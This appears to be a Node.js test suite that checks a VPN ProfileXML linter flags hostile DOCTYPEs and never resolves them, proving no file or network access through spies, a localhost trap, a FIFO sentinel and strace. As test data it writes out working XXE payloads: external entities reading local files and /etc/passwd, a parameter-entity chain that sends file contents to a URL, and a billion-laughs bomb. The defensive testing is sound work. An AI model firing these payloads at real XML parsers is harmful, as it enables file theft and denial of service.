/**
 * Hostile XML (issue 6): DOCTYPEs with external entities (file paths, file:// and http:// URLs),
 * an external DTD, parameter entities and exponential entity expansion ("billion laughs") are
 * reported by doctype-not-allowed and never resolved, loaded or expanded, by any front door.
 *
 * What proves "no access":
 * - a TCP server on 127.0.0.1 (the port every hostile URL names) counts connections: zero;
 * - in process, fs, net, http(s), dns and fetch are wrapped while the language service answers
 *   every request: not one call (the service is pure), and the sentinel never appears;
 * - for the built CLI, the sentinel is a named pipe (FIFO) with no writer: a blocking open for
 *   reading never returns, so a CLI that finishes has not opened it (a positive control shows
 *   such an open does hang). A preloaded spy in the CLI process records every fs/net call that
 *   names the sentinel or the trap port, and, where strace works, the kernel's view of every
 *   file and network system call of the CLI is checked too (also non-blocking opens).
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import dns from 'node:dns';
import fs, { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import { syncBuiltinESMExports } from 'node:module';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runWithDeadline, type ProcessRun } from '../../fuzz/process';
import { pathToFileURL } from 'node:url';
import { after, before, describe, it } from 'node:test';
import { TextDocument } from 'vscode-languageserver-textdocument';
import type { Diagnostic, Position } from 'vscode-languageserver-types';
import { looksLikeProfileXml } from '../../server/src/service/profilexml/document';
import { applyTextEdits, CLEAN_PROFILE, powerShellReady, service } from '../helpers/service';
import { assertTrapCounts, settle, startTrap, type Trap } from '../helpers/trap';

const ROOT = join(__dirname, '..', '..');
const CLI = join(ROOT, 'dist', 'cli.js');
const RULE = 'doctype-not-allowed';

// ---- the trap: every hostile URL points here ----------------------------------------------

// ---- the hostile documents ----------------------------------------------------------------

interface HostileCase {
  name: string;
  /** The DOCTYPE exactly as written into the profile. */
  doctype: string;
  /** Entity references written into the profile's values. */
  references: string[];
  /** What the DOCTYPE finding's message must say. */
  says: RegExp[];
}

interface Places {
  port: number;
  /** Absolute path of the sentinel. */
  sentinel: string;
  /** Its file name, for a relative SYSTEM identifier (resolved next to the document). */
  sentinelName: string;
}

const LEVELS = 10;

function billionLaughs(): string {
  const lines = ['<!DOCTYPE VPNProfile [', '  <!ENTITY lol0 "lol">'];
  for (let level = 1; level < LEVELS; level++) lines.push(`  <!ENTITY lol${level} "${`&lol${level - 1};`.repeat(10)}">`);
  lines.push(']>');
  return lines.join('\n');
}

function hostileCases(p: Places): HostileCase[] {
  const fileUrl = pathToFileURL(p.sentinel).href;
  const base = `http://127.0.0.1:${p.port}`;
  return [
    {
      name: 'external-file-url',
      doctype: `<!DOCTYPE VPNProfile [\n  <!ENTITY x SYSTEM "${fileUrl}">\n]>`,
      references: ['&x;'],
      says: [/external entity 'x'/, new RegExp(escapeRe(`SYSTEM "${fileUrl}"`)), /never loads or expands/],
    },
    {
      name: 'external-plain-path',
      doctype: `<!DOCTYPE VPNProfile [\n  <!ENTITY abs SYSTEM "${p.sentinel}">\n  <!ENTITY rel SYSTEM "${p.sentinelName}">\n]>`,
      references: ['&abs;', '&rel;'],
      says: [/2 external entities/, /'abs'/, /'rel'/, new RegExp(escapeRe(p.sentinelName))],
    },
    {
      name: 'external-http-url',
      doctype: `<!DOCTYPE VPNProfile [<!ENTITY remote SYSTEM "${base}/entity">]>`,
      references: ['&remote;'],
      says: [/external entity 'remote'/, new RegExp(escapeRe(`${base}/entity`))],
    },
    {
      name: 'public-external-dtd',
      doctype: `<!DOCTYPE VPNProfile PUBLIC "-//Hostile//DTD Profile//EN" "${base}/profile.dtd">`,
      references: [],
      says: [/loads an external DTD/, /PUBLIC "-\/\/Hostile\/\/DTD Profile\/\/EN"/, new RegExp(escapeRe(`${base}/profile.dtd`))],
    },
    {
      name: 'system-external-dtd-path',
      doctype: `<!DOCTYPE VPNProfile SYSTEM "${p.sentinel}">`,
      // Declared nowhere in the document: only the (never read) external DTD could declare it.
      references: ['&fromDtd;'],
      says: [/loads an external DTD/, new RegExp(escapeRe(p.sentinel))],
    },
    {
      name: 'parameter-entities',
      doctype: [
        '<!DOCTYPE VPNProfile [',
        `  <!ENTITY % remote SYSTEM "${base}/p">`,
        '  %remote;',
        `  <!ENTITY % file SYSTEM "${fileUrl}">`,
        `  <!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM '${base}/?d=%file;'>">`,
        '  %wrap;',
        '  %send;',
        ']>',
      ].join('\n'),
      references: ['&exfil;'],
      says: [/3 parameter entities/, /'%remote'/, /%remote;, %wrap;, %send;/, /inside the DTD/],
    },
    {
      name: 'billion-laughs',
      doctype: billionLaughs(),
      references: [`&lol${LEVELS - 1};`],
      says: [/10 internal entities nested 10 levels deep/, /&lol9; would expand to about 3 billion characters/, /billion laughs/],
    },
  ];
}

function escapeRe(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

/** A rule-clean profile carrying the DOCTYPE, with the references in ProfileName. */
function profileOf(c: HostileCase, eol = '\n'): string {
  const name = c.references.length ? `  <ProfileName>${c.references.join('')}</ProfileName>\n` : '';
  const text = `<?xml version="1.0" encoding="utf-8"?>\n${c.doctype}\n${CLEAN_PROFILE.replace('<VPNProfile>\n', `<VPNProfile>\n${name}`)}`;
  return eol === '\n' ? text : text.replace(/\n/g, eol);
}

/** The same profile in a deployment script, as a single-quoted here-string. */
function scriptOf(c: HostileCase): string {
  return `# Deploys the profile\n$ProfileXML = @'\n${profileOf(c)}'@\n\n$ProfileXML | Out-Null\n`;
}

// ---- spies for the in-process checks -------------------------------------------------------

interface Access {
  api: string;
  args: string;
}

type AnyFunction = (this: unknown, ...args: unknown[]) => unknown;

function describeArgs(args: unknown[]): string {
  return args
    .map((a) => {
      if (typeof a === 'string') return a;
      if (a instanceof URL) return a.href;
      if (typeof a === 'number' || typeof a === 'boolean') return String(a);
      if (a && typeof a === 'object') {
        try {
          return JSON.stringify(a);
        } catch {
          return '[object]';
        }
      }
      return typeof a;
    })
    .join(', ');
}

/** Wraps every file and network entry point of Node; returns what was called, and undoes it. */
function spyOnAccess(): { accesses: Access[]; restore(): void } {
  const accesses: Access[] = [];
  const restores: (() => void)[] = [];
  const wrap = (target: object, keys: string[], label: string): void => {
    const holder = target as Record<string, unknown>;
    for (const key of keys) {
      const original = holder[key];
      if (typeof original !== 'function') continue;
      const fn = original as AnyFunction;
      holder[key] = function (this: unknown, ...args: unknown[]): unknown {
        accesses.push({ api: `${label}.${key}`, args: describeArgs(args) });
        return fn.apply(this, args);
      };
      restores.push(() => {
        holder[key] = original;
      });
    }
  };
  const fileCalls = [
    'open',
    'openSync',
    'readFile',
    'readFileSync',
    'createReadStream',
    'stat',
    'statSync',
    'lstat',
    'lstatSync',
    'access',
    'accessSync',
    'existsSync',
    'readdir',
    'readdirSync',
    'opendir',
    'opendirSync',
    'realpath',
    'realpathSync',
    'watch',
    'watchFile',
  ];
  wrap(fs, fileCalls, 'fs');
  wrap(fs.promises, ['open', 'readFile', 'stat', 'lstat', 'access', 'readdir', 'opendir', 'realpath', 'watch'], 'fs.promises');
  wrap(net, ['connect', 'createConnection'], 'net');
  wrap(net.Socket.prototype, ['connect'], 'net.Socket');
  wrap(http, ['request', 'get'], 'http');
  wrap(https, ['request', 'get'], 'https');
  wrap(dns, ['lookup', 'resolve', 'resolve4', 'resolve6'], 'dns');
  wrap(dns.promises, ['lookup', 'resolve'], 'dns.promises');
  wrap(globalThis, ['fetch'], 'globalThis');
  syncBuiltinESMExports();
  return {
    accesses,
    restore() {
      for (const undo of restores.reverse()) undo();
      syncBuiltinESMExports();
    },
  };
}

// ---- everything the service answers, for one document ----------------------------------------

interface ServiceOutputs {
  diagnostics: Diagnostic[];
  /** Every answer, serialised. */
  json: string;
  hoverTexts: string[];
  ms: number;
}

/** Every request an editor makes, at many positions; synchronous, so the spies see only it. */
function exercise(document: TextDocument): ServiceOutputs {
  const started = performance.now();
  const text = document.getText();
  const answers: unknown[] = [];
  const diagnostics = service.validate(document);
  answers.push(diagnostics);
  const hoverTexts: string[] = [];
  const offsets = new Set<number>();
  for (let offset = 0; offset <= text.length; offset += 5) offsets.add(offset);
  for (const needle of ['<!DOCTYPE', '<!ENTITY', 'SYSTEM', 'PUBLIC', '%', '&', 'lol', '<ProfileName>', ']>']) {
    for (let at = text.indexOf(needle); at >= 0; at = text.indexOf(needle, at + 1)) {
      offsets.add(at);
      offsets.add(at + 1);
      offsets.add(at + needle.length);
    }
  }
  for (const offset of [...offsets].sort((a, b) => a - b)) {
    const position: Position = document.positionAt(offset);
    const hover = service.hover(document, position);
    if (hover) hoverTexts.push(JSON.stringify(hover.contents));
    answers.push(hover, service.complete(document, position));
  }
  const whole = { start: { line: 0, character: 0 }, end: document.positionAt(text.length) };
  answers.push(service.codeActions(document, whole, { diagnostics }));
  for (const d of diagnostics) answers.push(service.codeActions(document, d.range, { diagnostics: [d], only: ['quickfix'] }));
  answers.push(service.fixAll(document), service.documentSymbols(document), service.foldingRanges(document), service.codeLenses(document));
  return { diagnostics, json: JSON.stringify(answers), hoverTexts, ms: performance.now() - started };
}

/** Output that mentions the expansion beyond what the source holds ('lol' never twice in a row there). */
function assertNotExpanded(json: string, what: string): void {
  assert.doesNotMatch(json, /(lol){2}/, `${what}: an entity was expanded`);
  assert.doesNotMatch(json, /LEAKED-FROM-TRAP/, `${what}: the trap's answer got in`);
}

function assertBounded(outputs: ServiceOutputs, what: string): void {
  for (const d of outputs.diagnostics)
    assert.ok(messageOf(d).length <= 1000, `${what}: a ${String(d.code)} message of ${messageOf(d).length} characters`);
  for (const h of outputs.hoverTexts) assert.ok(h.length <= 8000, `${what}: a hover of ${h.length} characters`);
  assert.ok(outputs.ms < 5000, `${what}: ${Math.round(outputs.ms)} ms for every request`);
}

const textAt = (document: TextDocument, d: Diagnostic): string => document.getText(d.range);

/** A diagnostic's message as text (LSP allows markup content). */
function messageOf(d: { message: string | { value: string } }): string {
  return typeof d.message === 'string' ? d.message : d.message.value;
}

// ---- in process: the language service ---------------------------------------------------------

/** Every feature on the document while file and network access is spied on; asserts there was none. */
function exerciseWithoutAccess(document: TextDocument): ServiceOutputs {
  const spy = spyOnAccess();
  let outputs: ServiceOutputs;
  try {
    outputs = exercise(document);
  } finally {
    spy.restore();
  }
  assert.deepEqual(spy.accesses, [], 'the language service touched a file or the network');
  return outputs;
}

describe('hostile XML through the language service', { timeout: 120_000 }, () => {
  let trap: Trap;
  let dir: string;
  let places: Places;
  const token = `SENTINEL-${process.pid}-${Date.now()}`;

  before(async () => {
    trap = await startTrap();
    await assertTrapCounts(trap);
    dir = mkdtempSync(join(tmpdir(), 'profilexml-hostile-'));
    // In process the sentinel is an ordinary file (a FIFO opened here would hang this very process).
    places = { port: trap.port, sentinel: join(dir, 'secret.txt'), sentinelName: 'secret.txt' };
    writeFileSync(places.sentinel, token);
    await powerShellReady;
    // Warm every lazy part (schemas, caches, the grammar) on harmless documents first, so that
    // the spied window holds nothing but the analysis of hostile text.
    exercise(TextDocument.create('file:///warm/profile.xml', 'xml', 1, CLEAN_PROFILE));
    exercise(
      TextDocument.create(
        'file:///warm/profile.xml',
        'xml',
        2,
        `<!DOCTYPE VPNProfile [<!ENTITY a "b">]>\n${CLEAN_PROFILE.replace('<VPNProfile>\n', '<VPNProfile>\n<ProfileName>&a;</ProfileName>\n')}`,
      ),
    );
    exercise(TextDocument.create('file:///warm/script.ps1', 'powershell', 1, `$ProfileXML = @'\n${CLEAN_PROFILE}'@\n`));
  });

  after(async () => {
    await trap.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it("control: the spies see a file read and a connection attempt made the way the service's modules would", () => {
    const spy = spyOnAccess();
    try {
      readFileSync(places.sentinel, 'utf8');
      net.connect(1, '127.0.0.1').on('error', () => undefined);
    } finally {
      spy.restore();
    }
    assert.ok(
      spy.accesses.some((a) => a.api === 'fs.readFileSync' && a.args.includes(places.sentinel)),
      JSON.stringify(spy.accesses),
    );
    assert.ok(
      spy.accesses.some((a) => a.api === 'net.connect'),
      JSON.stringify(spy.accesses),
    );
  });

  it("the clean profile the cases are built on has no finding (so any finding is the DOCTYPE's)", () => {
    const c: HostileCase = { name: 'none', doctype: '<!-- no DOCTYPE -->', references: [], says: [] };
    const document = TextDocument.create(pathToFileURL(join(dir, 'clean.xml')).href, 'xml', 1, profileOf(c));
    assert.deepEqual(service.validate(document), []);
  });

  for (const name of [
    'external-file-url',
    'external-plain-path',
    'external-http-url',
    'public-external-dtd',
    'system-external-dtd-path',
    'parameter-entities',
    'billion-laughs',
  ]) {
    describe(name, () => {
      const get = (): HostileCase => {
        const c = hostileCases(places).find((x) => x.name === name);
        assert.ok(c);
        return c;
      };

      it('is reported on the DOCTYPE and at each reference, and nothing else fires', () => {
        const c = get();
        const text = profileOf(c);
        const document = TextDocument.create(pathToFileURL(join(dir, `${name}.xml`)).href, 'xml', 1, text);
        const outputs = exerciseWithoutAccess(document);

        const found = outputs.diagnostics;
        assert.deepEqual(
          found.map((d) => String(d.code)),
          found.map(() => RULE),
          `only ${RULE} expected; got ${found.map((d) => `${String(d.code)}: ${messageOf(d)}`).join('\n')}`,
        );
        const [declaration, ...references] = found;
        assert.equal(textAt(document, declaration), c.doctype, 'the finding covers exactly the DOCTYPE declaration');
        assert.equal(declaration.severity, 2, 'a warning');
        assert.equal(declaration.source, 'profilexml');
        for (const re of c.says) assert.match(messageOf(declaration), re);
        assert.match(messageOf(declaration), /ProfileXML takes no DTD and this tool never loads or expands it/);
        assert.deepEqual(
          references.map((d) => textAt(document, d)),
          c.references,
          'one finding at each reference, on the reference',
        );
        for (const d of references) {
          assert.match(messageOf(d), /declared in the DOCTYPE|not declared in the profile/);
          assert.match(messageOf(d), /never loads|does not expand/);
          assert.ok(d.relatedInformation?.length, 'points at the declaration');
        }
        assert.ok(!outputs.json.includes(token), 'the sentinel content appears in an answer');
        assertNotExpanded(outputs.json, name);
        assertBounded(outputs, name);
      });

      it('offers "Remove the DOCTYPE declaration", which deletes exactly the declaration and its line break', () => {
        const c = get();
        for (const eol of ['\n', '\r\n']) {
          const text = profileOf(c, eol);
          const document = TextDocument.create(`file:///hostile/${name}.xml`, 'xml', 1, text);
          const [declaration] = service.validate(document);
          const actions = service.codeActions(document, declaration.range, { diagnostics: [declaration], only: ['quickfix'] });
          const remove = actions.find((a) => a.title === 'Remove the DOCTYPE declaration');
          assert.ok(remove, `offered: ${actions.map((a) => a.title).join(' | ')}`);
          const edits = remove.edit?.changes?.[document.uri] ?? [];
          const fixed = applyTextEdits(text, edits);
          assert.equal(fixed, text.replace(c.doctype.replace(/\n/g, eol) + eol, ''));
          // Preferred (applied by fix-all and --fix) only when the profile stays XML without it.
          assert.equal(remove.isPreferred === true, c.references.length === 0);
          const all = applyTextEdits(text, service.fixAll(document));
          assert.equal(all, c.references.length === 0 ? fixed : text);
          if (c.references.length === 0) assert.deepEqual(service.validate(TextDocument.create(document.uri, 'xml', 2, fixed)), []);
        }
      });

      it('embedded in a PowerShell here-string: the same findings at the script positions', () => {
        const c = get();
        const text = scriptOf(c);
        const document = TextDocument.create(pathToFileURL(join(dir, `${name}.ps1`)).href, 'powershell', 1, text);
        const outputs = exerciseWithoutAccess(document);
        const found = outputs.diagnostics.filter((d) => d.code === RULE);
        assert.equal(found.length, 1 + c.references.length);
        const [declaration, ...references] = found;
        assert.equal(declaration.source, 'profilexml');
        assert.equal(textAt(document, declaration), c.doctype);
        assert.deepEqual(declaration.range.start, document.positionAt(text.indexOf('<!DOCTYPE')));
        assert.equal(declaration.range.start.line, 3, 'the line after the XML declaration inside the here-string');
        assert.deepEqual(
          references.map((d) => textAt(document, d)),
          c.references,
        );
        for (const re of c.says) assert.match(messageOf(declaration), re);
        const actions = service.codeActions(document, declaration.range, { diagnostics: [declaration], only: ['quickfix'] });
        const remove = actions.find((a) => a.title === 'Remove the DOCTYPE declaration');
        assert.ok(remove, `offered: ${actions.map((a) => a.title).join(' | ')}`);
        assert.equal(applyTextEdits(text, remove.edit?.changes?.[document.uri] ?? []), text.replace(`${c.doctype}\n`, ''));
        assert.ok(!outputs.json.includes(token));
        assertNotExpanded(outputs.json, `${name}.ps1`);
        assertBounded(outputs, `${name}.ps1`);
      });
    });
  }

  it('an entity the DOCTYPE does not declare is still not well-formed, reported once', () => {
    const text = `<!DOCTYPE VPNProfile [<!ENTITY a "b">]>\n${CLEAN_PROFILE.replace('<VPNProfile>\n', '<VPNProfile>\n  <ProfileName>&nope;</ProfileName>\n')}`;
    const found = service.validate(TextDocument.create('file:///hostile/undeclared.xml', 'xml', 1, text));
    assert.deepEqual(
      found.map((d) => String(d.code)),
      ['xml-not-well-formed'],
      'rules wait for a well-formed document; the undeclared entity is an XML error',
    );
    assert.match(messageOf(found[0]), /entity not found:&nope;/);
  });

  it('a plain DOCTYPE, a recursive entity and a DOCTYPE whose subset holds ">" inside comments and literals', () => {
    const cases: [string, RegExp][] = [
      ['<!DOCTYPE VPNProfile>', /^DOCTYPE declaration\. ProfileXML takes no DTD/],
      ['<!DOCTYPE VPNProfile [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', /'a' among them refers to itself/],
      [
        '<!DOCTYPE VPNProfile [\n  <!-- a > b \' " ] -->\n  <?pi > ?>\n  <!ENTITY x "]> \'">\n  <!ATTLIST VPNProfile a CDATA "x>y">\n]>',
        /the internal entity 'x'/,
      ],
    ];
    for (const [doctype, says] of cases) {
      const text = `${doctype}\n${CLEAN_PROFILE}`;
      const document = TextDocument.create('file:///hostile/plain.xml', 'xml', 1, text);
      const found = service.validate(document);
      assert.deepEqual(
        found.map((d) => String(d.code)),
        [RULE],
        `${doctype}: ${found.map((d) => messageOf(d)).join('\n')}`,
      );
      assert.equal(textAt(document, found[0]), doctype);
      assert.match(messageOf(found[0]), says);
    }
  });

  it('sees no connection on the trap after all of the above', async () => {
    await settle();
    assert.equal(trap.connections, 0);
  });
});

describe('values made of DOCTYPE entities', () => {
  it('get the doctype finding at each reference and no guess from other rules about the unexpanded text', () => {
    const text = `<!DOCTYPE VPNProfile [<!ENTITY a "vpn.example.com">]>\n${CLEAN_PROFILE.replace(/<Servers>[^<]*<\/Servers>/, '<Servers>&a;&a;</Servers>')}`;
    const d = TextDocument.create('file:///hostile/entity-values.xml', 'xml', 1, text);
    const found = service.validate(d);
    const atServers = found.filter((x) => d.getText(x.range).startsWith('&a;'));
    assert.deepEqual(
      atServers.map((x) => x.code),
      ['doctype-not-allowed', 'doctype-not-allowed'],
    );
    assert.ok(!found.some((x) => x.code === 'invalid-server-list'), 'no server-list verdict on "&a;&a;"');
    // Without the entity the same value is judged as usual.
    const plain = service.validate(
      TextDocument.create(
        'file:///hostile/plain-values.xml',
        'xml',
        1,
        CLEAN_PROFILE.replace(/<Servers>[^<]*<\/Servers>/, '<Servers>vpn example</Servers>'),
      ),
    );
    assert.ok(plain.some((x) => x.code === 'invalid-server-list'));
  });
});

describe('what comes before the root element (looksLikeProfileXml, shared by CLI, server and scripts)', () => {
  it('skips a DOCTYPE whose internal subset holds ">" (entity declarations, comments, literals)', () => {
    const yes = [
      '<!DOCTYPE VPNProfile [<!ENTITY x SYSTEM "file:///etc/passwd">]><VPNProfile/>',
      '\uFEFF<?xml version="1.0"?>\n<!-- > -->\n<!DOCTYPE VPNProfile [\n <!-- ]> \' -->\n <!ENTITY a "]>">\n]>\n<!-- after -->\n<a:VPNProfile xmlns:a="urn:x"/>',
      '<!DOCTYPE VPNProfile SYSTEM "http://127.0.0.1:9/x.dtd">\n<VPNProfile>',
    ];
    for (const text of yes) assert.equal(looksLikeProfileXml(text), true, text);
    const no = [
      '<!DOCTYPE html [<!ENTITY x "y">]><html/>',
      '<!DOCTYPE VPNProfile [<!ENTITY x "y">',
      '<!-- <VPNProfile> ',
      'text <VPNProfile/>',
      '',
    ];
    for (const text of no) assert.equal(looksLikeProfileXml(text), false, text);
  });
});

// ---- the built CLI ---------------------------------------------------------------------------

/** Runs a command without blocking this process (the trap must be able to accept meanwhile). */
function runAsync(command: string, args: string[], timeoutMs: number, cwd = ROOT): Promise<ProcessRun> {
  return runWithDeadline(command, args, { cwd, timeoutMs });
}

/** Normal runs take well under a second; a blocked open of the FIFO would never end. */
const CLI_DEADLINE_MS = 30_000;

const hasFifo = process.platform !== 'win32' && spawnSync('mkfifo', ['--version']).status === 0;

describe('hostile XML through the CLI (dist/cli.js)', { timeout: 180_000, skip: hasFifo ? false : 'mkfifo is not available' }, () => {
  let trap: Trap;
  let dir: string;
  let inputs: string;
  let places: Places;
  let cases: HostileCase[];
  let spyLog: string;
  let spyScript: string;

  /** The CLI with the preloaded spy; every run appends to the spy's log. */
  const cli = (args: string[]): Promise<ProcessRun> => runAsync(process.execPath, ['--require', spyScript, CLI, ...args], CLI_DEADLINE_MS);

  const assertFinished = (r: ProcessRun, what: string): void => {
    assert.equal(
      r.timedOut,
      false,
      `${what}: the CLI did not finish within ${CLI_DEADLINE_MS} ms (blocked opening the FIFO sentinel?)\n${r.stderr}`,
    );
    assert.equal(r.signal, null, `${what}: killed by ${String(r.signal)}`);
  };

  before(async () => {
    assert.ok(existsSync(CLI), `${CLI} is missing: run \`npm run build\` (npm test builds first)`);
    trap = await startTrap();
    await assertTrapCounts(trap);
    dir = mkdtempSync(join(tmpdir(), 'profilexml-hostile-cli-'));
    inputs = join(dir, 'inputs');
    mkdirSync(inputs);
    places = { port: trap.port, sentinel: join(inputs, 'secret.txt'), sentinelName: 'secret.txt' };
    const made = spawnSync('mkfifo', [places.sentinel]);
    assert.equal(made.status, 0, `mkfifo failed: ${made.stderr.toString()}`);
    cases = hostileCases(places);
    for (const c of cases) {
      writeFileSync(join(inputs, `${c.name}.xml`), profileOf(c));
      writeFileSync(join(inputs, `${c.name}.ps1`), scriptOf(c));
    }
    // A spy loaded into the CLI process before it starts: any fs or network call naming the
    // sentinel, or any outgoing connection at all, is written to the log (with the saved fs).
    spyLog = join(dir, 'spy.log');
    spyScript = join(dir, 'spy.cjs');
    writeFileSync(
      spyScript,
      `'use strict';
const fs = require('node:fs');
const net = require('node:net');
const append = fs.appendFileSync.bind(fs);
const LOG = ${JSON.stringify(spyLog)};
const NEEDLES = [${JSON.stringify(places.sentinelName)}, ${JSON.stringify(String(places.port))}];
const show = (a) => { try { return typeof a === 'string' ? a : a instanceof URL ? a.href : JSON.stringify(a); } catch { return String(a); } };
const wrap = (target, label, keys, always) => {
  for (const key of keys) {
    const original = target[key];
    if (typeof original !== 'function') continue;
    target[key] = function (...args) {
      const text = args.map(show).join(', ');
      if (!text.includes(LOG) && (always || NEEDLES.some((n) => text.includes(n)))) append(LOG, label + '.' + key + '(' + text + ')\\n');
      return original.apply(this, args);
    };
  }
};
const FILE = ['open', 'openSync', 'readFile', 'readFileSync', 'createReadStream', 'stat', 'statSync', 'lstat', 'lstatSync', 'access', 'accessSync', 'existsSync', 'realpath', 'realpathSync'];
wrap(fs, 'fs', FILE, false);
wrap(fs.promises, 'fs.promises', ['open', 'readFile', 'stat', 'lstat', 'access', 'realpath'], false);
wrap(net, 'net', ['connect', 'createConnection'], true);
wrap(net.Socket.prototype, 'net.Socket', ['connect'], true);
wrap(require('node:http'), 'http', ['request', 'get'], true);
wrap(require('node:https'), 'https', ['request', 'get'], true);
wrap(require('node:dns'), 'dns', ['lookup', 'resolve'], true);
wrap(globalThis, 'globalThis', ['fetch'], true);
require('node:module').syncBuiltinESMExports();
`,
    );
  });

  after(async () => {
    await trap.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('positive control: opening the FIFO sentinel for reading blocks, so a finished CLI never did it', async () => {
    const r = await runAsync(process.execPath, ['-e', 'require("node:fs").readFileSync(process.argv[1])', places.sentinel], 1500);
    assert.equal(r.timedOut, true, 'reading the FIFO returned: the proof would not hold here');
  });

  it('control: the preloaded spy logs a look at the sentinel and any connection attempt', async () => {
    const probe = 'require("node:fs").existsSync(process.argv[1]); require("node:net").connect(1, "127.0.0.1").on("error", () => {});';
    const r = await runAsync(process.execPath, ['--require', spyScript, '-e', probe, places.sentinel], CLI_DEADLINE_MS);
    assertFinished(r, 'spy control');
    const log = readFileSync(spyLog, 'utf8');
    assert.match(log, /fs\.existsSync\(.*secret\.txt\)/);
    assert.match(log, /net\.connect\(/);
    writeFileSync(spyLog, '');
  });

  it('--format json: doctype-not-allowed on each file, at the DOCTYPE and at each reference', async () => {
    const files = cases.flatMap((c) => [join(inputs, `${c.name}.xml`), join(inputs, `${c.name}.ps1`)]);
    const r = await cli(['--format', 'json', ...files]);
    assertFinished(r, 'json');
    assert.equal(r.stderr, '');
    assert.equal(r.status, 0, 'warnings only');
    const entries = JSON.parse(r.stdout) as {
      file: string;
      diagnostics: { code: string; message: string; range: { start: { line: number; character: number } } }[];
    }[];
    assert.equal(entries.length, files.length);
    for (const c of cases) {
      for (const ext of ['xml', 'ps1']) {
        const file = join(inputs, `${c.name}.${ext}`);
        const entry = entries.find((e) => e.file === file);
        assert.ok(entry, file);
        const ours = entry.diagnostics.filter((d) => d.code === RULE);
        assert.equal(
          ours.length,
          1 + c.references.length,
          `${file}: ${entry.diagnostics.map((d) => `${d.code}: ${messageOf(d)}`).join('\n')}`,
        );
        if (ext === 'xml')
          assert.deepEqual(
            entry.diagnostics.map((d) => d.code),
            ours.map(() => RULE),
          );
        const text = readFileSync(file, 'utf8');
        const doctypeLine = text.split('\n').findIndex((l) => l.startsWith('<!DOCTYPE'));
        assert.deepEqual(ours[0].range.start, { line: doctypeLine, character: 0 });
        for (const re of c.says) assert.match(messageOf(ours[0]), re);
        for (const d of ours) assert.ok(messageOf(d).length <= 1000);
      }
    }
    assertNotExpanded(r.stdout, 'json');
  });

  it('text and sarif output, and the folder itself (the FIFO beside the profiles is left alone)', async () => {
    for (const args of [
      ['--format', 'text', inputs],
      ['--format', 'sarif', inputs],
      ['--format', 'json', '--deployment', 'intune', '--target-windows', 'win10-1809', inputs],
    ]) {
      const r = await cli(args);
      assertFinished(r, args.join(' '));
      assert.equal(r.status, 0, `${args.join(' ')}: ${r.stderr}`);
      assert.match(r.stdout, /doctype-not-allowed/);
      assertNotExpanded(r.stdout, args.join(' '));
      assert.ok(r.stdout.length < 200_000, `${args.join(' ')}: ${r.stdout.length} characters of output`);
    }
    const sarif = JSON.parse((await cli(['--format', 'sarif', join(inputs, 'billion-laughs.xml')])).stdout) as {
      runs: { results: { ruleId: string }[] }[];
    };
    assert.deepEqual(
      sarif.runs[0].results.map((x) => x.ruleId),
      [RULE, RULE],
    );
  });

  it('--fix removes the DOCTYPE only where nothing refers to its entities', async () => {
    const fixDir = join(dir, 'fix');
    cpSync(inputs, fixDir, { recursive: true, filter: (source) => !source.endsWith('secret.txt') });
    const r = await cli(['--fix', '--format', 'json', fixDir]);
    assertFinished(r, '--fix');
    assert.equal(r.status, 0, r.stderr);
    for (const c of cases) {
      const before = profileOf(c);
      const after = readFileSync(join(fixDir, `${c.name}.xml`), 'utf8');
      assert.equal(after, c.references.length === 0 ? before.replace(`${c.doctype}\n`, '') : before, c.name);
      const script = readFileSync(join(fixDir, `${c.name}.ps1`), 'utf8');
      assert.equal(script, c.references.length === 0 ? scriptOf(c).replace(`${c.doctype}\n`, '') : scriptOf(c), `${c.name}.ps1`);
    }
  });

  it('a DOCTYPE with an internal subset no longer makes a profile "not ProfileXML"', async () => {
    const file = join(inputs, 'external-file-url.xml');
    const r = await cli([file]);
    assertFinished(r, 'text');
    assert.doesNotMatch(r.stderr, /skipped/);
    assert.match(r.stdout, /external entity 'x'/);
    // And a file that really is not ProfileXML is described without contradicting itself.
    const other = join(dir, 'other.xml');
    writeFileSync(other, '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<html>&x;</html>\n');
    const skipped = await cli([other]);
    assertFinished(skipped, 'skipped');
    assert.match(skipped.stderr, /skipped: not ProfileXML \(root element is <html>, not <VPNProfile>\)/);
  });

  it('no fs or network call of any CLI run named the sentinel or the trap, and the trap saw no connection', async () => {
    await settle();
    assert.equal(trap.connections, 0);
    const log = existsSync(spyLog) ? readFileSync(spyLog, 'utf8') : '';
    assert.equal(log, '', `the CLI reached for the sentinel or the network:\n${log}`);
  });

  const strace = spawnSync('strace', ['-f', '-e', 'trace=none', process.execPath, '-e', '0']);
  const straceWorks = strace.status === 0;
  it(
    'the kernel agrees: no system call of the CLI names the sentinel, none connects anywhere',
    { skip: straceWorks ? false : 'strace is not available or not permitted' },
    async () => {
      const traceFile = join(dir, 'strace.txt');
      const files = cases.flatMap((c) => [join(inputs, `${c.name}.xml`), join(inputs, `${c.name}.ps1`)]);
      const r = await runAsync(
        'strace',
        ['-f', '-qq', '-o', traceFile, '-e', 'trace=%file,%network', process.execPath, CLI, '--format', 'json', ...files],
        CLI_DEADLINE_MS,
      );
      assertFinished(r, 'strace');
      assert.equal(r.status, 0, r.stderr);
      const trace = readFileSync(traceFile, 'utf8');
      assert.match(trace, /external-file-url\.xml/, 'control: the trace shows the CLI opening its inputs');
      const touching = trace.split('\n').filter((l) => l.includes(places.sentinelName));
      assert.deepEqual(touching, [], 'a system call named the sentinel');
      const connects = trace.split('\n').filter((l) => /\bconnect\(/.test(l) && /AF_INET/.test(l));
      assert.deepEqual(connects, [], 'the CLI opened a network connection');
      await settle();
      assert.equal(trap.connections, 0);
    },
  );
});
